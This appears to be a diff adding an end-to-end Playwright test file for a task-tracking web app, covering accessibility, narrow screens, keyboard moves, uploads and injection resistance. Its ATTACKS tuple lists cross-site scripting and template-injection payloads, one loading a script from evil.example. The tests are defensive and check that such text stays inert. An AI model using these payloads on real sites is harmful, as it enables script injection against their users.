@@ -1,0 +1,164 @@
+"""What holds on every page: assistive technology, narrow screens, and text that would like to be more than text."""
+
+import json
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page
+
+from tests.architecture.code import ROOT
+from tests.e2e.pages.desk import PATIENCE, Desk, wait_for_count
+from tests.support.service import wait_until
+
+OpenPage = Callable[..., Page]
+AXE = (ROOT / "web" / "node_modules" / "axe-core" / "axe.min.js").read_text()
+PAGES = (
+    "/review", "/inbox", "/organizations/x/tasks?view=kanban", "/organizations/x/tasks?view=table",
+    "/organizations/x/tasks?view=calendar", "/organizations/x/tasks?view=list", "/tasks", "/mine", "/reports/sla",
+    "/reports/stale", "/settings/me", "/settings/members", "/settings/keys", "/settings/policies", "/settings/audit",
+    "/nothing/here",
+)  # fmt: skip
+LOOKS: dict[str, dict[str, Any]] = {
+    "light": {"color_scheme": "light"},
+    "dark": {"color_scheme": "dark"},
+    "narrow": {"viewport": {"width": 320, "height": 640}, "has_touch": True},
+    "forced colours": {"forced_colors": "active"},
+}
+ATTACKS = (
+    "<script>document.title='owned'</script>", "<img src=x onerror=\"document.title='owned'\">",
+    "\"><svg onload=document.title='owned'>", "javascript:document.title='owned'", "{{constructor.constructor('1')()}}",
+    "</title><script src=//evil.example/x.js></script>", "<iframe srcdoc='<script>parent.document.title=1</script>'>",
+    "\u202etxt.exe \U0001f600 \u05e9\u05dc\u05d5\u05dd",
+)  # fmt: skip
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _full(desk: Desk) -> None:
+    """Something of everything, so that no list is empty."""
+    desk.read(
+        "Anna Li: I'll send the report by Friday.\nSpeaker 1: Maybe we could meet in spring.\n", "A call to look at"
+    )
+    desk.suggest(["Look at this suggestion"])
+    for number, status in enumerate(("unaddressed", "pending", "in_progress", "on_hold", "completed")):
+        body = {
+            "title": f"Look at task {number}",
+            "status": status,
+            "due_at": "2026-01-05",
+            "sla_hours": 4,
+            "priority": "high",
+        }
+        desk.call("POST", "/api/tasks", body)
+
+
+def violations(page: Page) -> list[str]:
+    page.evaluate(AXE)
+    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
+    return [
+        f"{fault['id']}: {json.dumps([node['html'][:160] for node in fault['nodes'][:3]])}"
+        for fault in found["violations"]
+    ]
+
+
+@pytest.mark.parametrize("look", LOOKS)
+def test_assistive_technology_finds_nothing_wrong(look: str, open_page: OpenPage) -> None:
+    page = open_page("/review", **LOOKS[look], reduced_motion="reduce")
+    faults: dict[str, list[str]] = {}
+    for path in PAGES:
+        page.goto(path)
+        page.wait_for_selector("main h1, main h2", state="attached")
+        wait_for_count(page, ".bone", 0)
+        if found := violations(page):
+            faults[path] = found
+    assert faults == {}
+
+
+def test_sheets_are_accessible_too(open_page: OpenPage) -> None:
+    page = open_page("/review", reduced_motion="reduce")
+    page.wait_for_selector(".row.current")
+    faults: dict[str, list[str]] = {}
+    for key in ("?", "/", "c"):
+        page.keyboard.press(key)
+        page.wait_for_selector("dialog.sheet")
+        if found := violations(page):
+            faults[key] = found
+        page.keyboard.press("Escape")
+        page.wait_for_selector("dialog.sheet", state="detached")
+    assert faults == {}
+
+
+def test_nothing_scrolls_sideways_on_a_narrow_screen(open_page: OpenPage) -> None:
+    page = open_page("/review", **LOOKS["narrow"])
+    for path in PAGES:
+        page.goto(path)
+        page.wait_for_selector("main h1, main h2", state="attached")
+        wait_for_count(page, ".bone", 0)
+        assert page.evaluate("document.documentElement.scrollWidth") <= 320, path
+
+
+def test_text_from_outside_stays_text_and_nothing_is_fetched_from_elsewhere(desk: Desk, open_page: OpenPage) -> None:
+    desk.suggest(list(ATTACKS))
+    source = desk.read("\n".join(f"Anna Li: I'll send {attack} to Bob." for attack in ATTACKS), ATTACKS[0])
+    for attack in ATTACKS:
+        task = desk.call("POST", "/api/tasks", {"title": attack, "description": attack, "tags": [attack[:40]]})["task"]
+        desk.call("POST", f"/api/tasks/{task['id']}/comments", {"text": attack})
+    page = open_page("/review/none")
+    outside: list[str] = []
+    page.on("request", lambda sent: None if sent.url.startswith((desk.address, "blob:")) else outside.append(sent.url))
+    for path in (
+        "/review/none",
+        f"/inbox/{source}",
+        "/inbox",
+        "/tasks",
+        f"/t/{task['number']}",
+        "/organizations/x/tasks",
+    ):
+        page.goto(path)
+        page.wait_for_selector("main h1, main h2", state="attached")
+        wait_for_count(page, ".bone", 0)
+        assert page.title() != "owned"
+        assert page.evaluate("window.violations") == []
+        assert page.locator("main iframe, main img, main script").count() == 0
+    assert outside == []
+
+
+def test_files_are_handed_in_with_a_result_for_each(open_page: OpenPage, desk: Desk) -> None:
+    page = open_page("/inbox")
+    good = [
+        {
+            "name": f"call {number}.txt",
+            "mimeType": "text/plain",
+            "buffer": f"Anna Li: I'll paint room {number} by Friday.".encode(),
+        }
+        for number in range(3)
+    ]
+    bad = {"name": "empty.txt", "mimeType": "text/plain", "buffer": b""}
+    page.set_input_files("input[type=file]", [*good, bad])
+    page.wait_for_selector(".uploads li")
+
+    def outcomes() -> list[str]:
+        return page.locator(".uploads .inbox-outcome").all_inner_texts()
+
+    wait_until(
+        lambda: sum("suggestion waits" in each for each in outcomes()) == 3, seconds=PATIENCE, what="three are read"
+    )
+    assert len(outcomes()) == 4
+    assert page.locator(".uploads .bad-text").count() == 1
+
+
+def test_a_card_is_moved_by_keys_and_back(desk: Desk, open_page: OpenPage) -> None:
+    task = desk.call("POST", "/api/tasks", {"title": "Move this card", "status": "pending", "due_at": "2025-01-01"})[
+        "task"
+    ]
+    page = open_page("/organizations/x/tasks?view=kanban&q=%22Move+this+card%22")
+    page.wait_for_selector(".task-card")
+    page.keyboard.press("j")
+    page.wait_for_selector(".task-card.current")
+    page.keyboard.press("Shift+ArrowRight")
+
+    def status() -> str:
+        return str(desk.call("GET", f"/api/tasks/{task['id']}")["task"]["status"])
+
+    wait_until(lambda: status() == "in_progress", seconds=PATIENCE, what="it is in the next column")
+    page.keyboard.press("u")
+    wait_until(lambda: status() == "pending", seconds=PATIENCE, what="it is back")
